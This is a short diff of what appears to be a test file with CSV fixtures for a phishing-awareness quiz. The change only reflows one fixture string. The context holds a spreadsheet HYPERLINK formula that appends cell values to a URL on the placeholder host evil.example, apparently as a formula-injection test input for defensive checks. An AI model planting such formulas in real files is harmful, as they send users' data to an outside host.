@@ -13,7 +13,8 @@ HEADER = (
 )
 GOOD = (
     "cls-010,action,money,シニア,phishing,このSMSが来たら?,You get this SMS. Then?,"
-    "リンクを開く,Open the link,公式アプリで確かめる,Check in the official app,b,＋から始まる番号は国際電話です。,Check in the app."
+    "リンクを開く,Open the link,公式アプリで確かめる,Check in the official app,b,"
+    "＋から始まる番号は国際電話です。,Check in the app."
 )
 HYPERLINK = '"=HYPERLINK(""http://evil.example/?""&D2&D3&D4,""詳しくはこちら"")"'
 
